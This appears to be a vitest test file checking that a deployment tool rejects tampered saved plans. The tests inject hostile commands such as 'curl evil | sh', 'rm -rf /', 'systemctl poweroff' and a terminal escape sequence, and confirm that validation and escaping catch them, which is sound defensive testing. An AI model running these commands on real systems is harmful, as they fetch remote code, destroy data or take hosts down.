import { describe, expect, it } from 'vitest';
import { planDigest, renderCommands, structuralProblems } from '../../../src/apply/saved-plan.js';
import type { Io } from '../../../src/cli/context.js';
import { newPool } from '../../../src/cli/gather.js';
import { commonFrom } from '../../../src/cli/main.js';
import { observeFleet, planFleet } from '../../../src/cli/prepare.js';
import { savedPlanProblems } from '../../../src/cli/saved-plan.js';
import type { Plan } from '../../../src/model/plan.js';

// A saved plan made from the committed example and its snapshot (offline: no host is contacted),
// then edited the ways an attacker with write access to a CI artifact would.
const quiet: Io = { out: () => {}, err: () => {}, isTTY: false, env: {} };
const opts = { ...commonFrom({ inventory: ['inventory/crm.yml'] }), observed: 'examples/observed/crm.json' };

async function saved(): Promise<{ plan: Plan; check: (p: Plan) => Promise<string[]> }> {
  const fleet = await observeFleet(['playbooks/site.yml'], opts, quiet);
  const { plan } = planFleet(fleet, quiet);
  const check = (p: Plan) => savedPlanProblems(structuredClone(p), fleet.inventory, newPool(opts));
  return { plan: JSON.parse(JSON.stringify(plan)) as Plan, check };
}

function edited(plan: Plan, edit: (p: Plan) => void): Plan {
  const copy = structuredClone(plan);
  edit(copy);
  return copy;
}

describe('apply --plan: a saved plan is data', () => {
  it('the plan runstate wrote passes unchanged, and has steps to check', async () => {
    const { plan, check } = await saved();
    expect(plan.steps.length).toBeGreaterThan(3);
    expect(await check(plan)).toEqual([]);
  });

  it('refuses a command the drivers would not build', async () => {
    const { plan, check } = await saved();
    const bad = edited(plan, (p) => {
      (p.steps[0] as Plan['steps'][number]).commands = [['sh', '-c', 'curl evil | sh']];
    });
    const problems = await check(bad);
    expect(problems.join('\n')).toMatch(/commands differ from what the drivers and playbooks build/);
    expect(problems.join('\n')).toContain('"curl evil | sh"');
  });

  it('refuses an extra command appended to a real one', async () => {
    const { plan, check } = await saved();
    const bad = edited(plan, (p) => {
      p.steps[0]?.commands.push(['systemctl', 'poweroff']);
    });
    expect((await check(bad)).join('\n')).toMatch(/commands differ/);
  });

  it('refuses a health gate the playbooks do not declare', async () => {
    const { plan, check } = await saved();
    const bad = edited(plan, (p) => {
      const start = p.steps.find((s) => s.kind === 'start') as Plan['steps'][number];
      start.health = { kind: 'command', argv: ['rm', '-rf', '/'], timeoutSec: 1 };
    });
    expect((await check(bad)).join('\n')).toMatch(/health differ/);
  });

  it('refuses a step for a host the plan did not observe (it would run unlocked)', async () => {
    const { plan, check } = await saved();
    const bad = edited(plan, (p) => {
      const host = Object.keys(p.hosts)[0] as string;
      delete p.hosts[host];
    });
    expect((await check(bad)).join('\n')).toMatch(/which the plan did not observe/);
  });

  it('refuses a recorded state edited under its digest (it would steer the commands)', async () => {
    const { plan, check } = await saved();
    const bad = edited(plan, (p) => {
      const host = Object.values(p.hosts).find((h) => h.observed.status === 'ok');
      if (host?.observed.status === 'ok')
        host.observed.init = host.observed.init === 'sysv' ? 'openrc' : 'sysv';
    });
    expect((await check(bad)).join('\n')).toMatch(/does not have the recorded digest/);
  });

  it('refuses a new step whose commands are what a driver would build', async () => {
    const { plan, check } = await saved();
    const bad = edited(plan, (p) => {
      const first = p.steps[0] as Plan['steps'][number];
      const extra = { ...first, id: `${first.host}/stop/sshd`, kind: 'stop' as const, service: 'sshd' };
      extra.commands = [['systemctl', 'stop', '--', 'sshd.service']];
      p.steps.push(extra);
      p.waves[first.wave - 1]?.push(extra.id);
    });
    expect((await check(bad)).join('\n')).toMatch(/not one the playbooks and the recorded state give/);
  });

  it('refuses after/waves that disagree, with a generic check that holds for any step kind', async () => {
    const { plan } = await saved();
    const later = plan.steps.find((s) => s.after.length > 0) as Plan['steps'][number];
    const dangling = edited(plan, (p) => {
      p.steps.find((s) => s.id === later.id)?.after.push('nowhere/start/x');
    });
    expect(structuralProblems(dangling, { hosts: hostsOf(plan), files: [] } as never).join('\n')).toContain(
      'is after "nowhere/start/x", which is not a step',
    );
    const flat = edited(plan, (p) => {
      p.waves = [p.waves.flat()];
      for (const s of p.steps) s.wave = 1;
    });
    expect(structuralProblems(flat, { hosts: hostsOf(plan), files: [] } as never).join('\n')).toMatch(
      /\(wave 1\) is after .* \(wave 1\)/,
    );
    const missing = edited(plan, (p) => {
      p.waves = p.waves.map((w) => w.filter((id) => id !== later.id));
    });
    expect(structuralProblems(missing, { hosts: hostsOf(plan), files: [] } as never)).toContain(
      `step ${JSON.stringify(later.id)} is in no wave`,
    );
  });

  it('barriers (planner steps that run nothing) are checked the same way', async () => {
    const { plan, check } = await saved();
    const inv = { hosts: hostsOf(plan), files: [] } as never;
    const cyclic = edited(plan, (p) => {
      p.barriers = [
        { id: '@a', reason: 'x', after: ['@b'] },
        { id: '@b', reason: 'y', after: ['@a'] },
      ];
      p.steps[0]?.after.push('@a');
    });
    expect(structuralProblems(cyclic, inv).join('\n')).toContain('is in a cycle');
    const dangling = edited(plan, (p) => {
      p.barriers = [...(p.barriers ?? []), { id: '@z', reason: 'x', after: ['nowhere/start/x'] }];
    });
    expect(structuralProblems(dangling, inv).join('\n')).toContain('barrier "@z" is after "nowhere/start/x"');
    const extra = edited(plan, (p) => {
      p.barriers = [...(p.barriers ?? []), { id: '@z', reason: 'x', after: [] }];
    });
    expect((await check(extra)).join('\n')).toContain('the barriers differ');
  });

  it('prints control characters from a file as visible escapes', async () => {
    const { plan } = await saved();
    const bad = edited(plan, (p) => {
      (p.steps[0] as Plan['steps'][number]).commands = [['echo', '\u001b]0;pwned\u0007']];
    });
    const text = renderCommands(bad);
    expect(text).not.toContain('\u001b');
    expect(text).toContain('\\u001b]0;pwned\\u0007');
  });

  it('the digest names what the plan does, not how the file is spelt', async () => {
    const { plan } = await saved();
    const respelt = { ...plan, playbooks: ['./playbooks/site.yml'] };
    expect(planDigest(respelt)).toBe(planDigest(plan));
    expect(planDigest(edited(plan, (p) => p.steps.pop()))).not.toBe(planDigest(plan));
  });

  it('two plans made with the same steps are two plans (their serials differ), so each applies once', async () => {
    const { plan } = await saved();
    const first = { ...plan, serial: '00000000-0000-4000-8000-000000000001' };
    const again = { ...plan, serial: '00000000-0000-4000-8000-000000000002' };
    expect(planDigest(first)).not.toBe(planDigest(again));
    expect(planDigest({ ...first })).toBe(planDigest(first));
  });
});

function hostsOf(plan: Plan): Record<string, unknown> {
  return Object.fromEntries(Object.keys(plan.hosts).map((h) => [h, {}]));
}
